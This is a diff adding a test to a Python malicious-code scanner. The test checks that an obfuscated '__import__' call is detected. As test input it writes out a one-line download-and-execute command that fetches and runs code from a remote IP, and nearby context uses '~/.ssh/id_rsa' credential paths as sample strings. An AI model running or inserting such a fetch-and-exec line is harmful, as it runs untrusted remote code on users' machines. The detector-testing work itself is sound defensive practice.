@@ -38,6 +38,20 @@ def test_a_computed_attribute_or_module_name_is_the_call_it_spells() -> None:
     assert "call:os.system" in facts.tokens and "call:subprocess.call" in facts.tokens
 
 
+def test_dunder_import_of_a_dotted_name_returns_its_top_package() -> None:
+    """``__import__("urllib.request")`` is the ``urllib`` package: ``.request.urlopen`` after it is
+    urllib.request.urlopen (a download run at import time); with a fromlist it is the submodule."""
+    src = "exec(__import__('urllib.request').request.urlopen('http://203.0.113.9/x').read().decode())\n"
+    facts = scan_source("m.py", src)
+    assert "call:urllib.request.urlopen" in facts.tokens
+    assert facts.counts.get("code.download_exec", 0) >= 1
+    assert "code.download_exec" in facts.import_time
+    sub = scan_source("m.py", "__import__('os.path', fromlist=['join']).join('a', 'b')\n")
+    assert "call:os.path.join" in sub.tokens
+    top = scan_source("m.py", "__import__('os.path').path.join('a', 'b')\n")
+    assert "call:os.path.join" in top.tokens
+
+
 def test_what_a_literal_already_shows_is_not_counted_twice() -> None:
     apart = scan_source("m.py", 'p = "~/.ssh/"\nq = "id_rsa"\nu = "https://files.acme-widgets.net/a"\n')
     built = scan_source("m.py", 'p = "~/.ssh/" + "id_rsa"\nu = "https://files.acme-widgets.net/a" + "/b"\n')
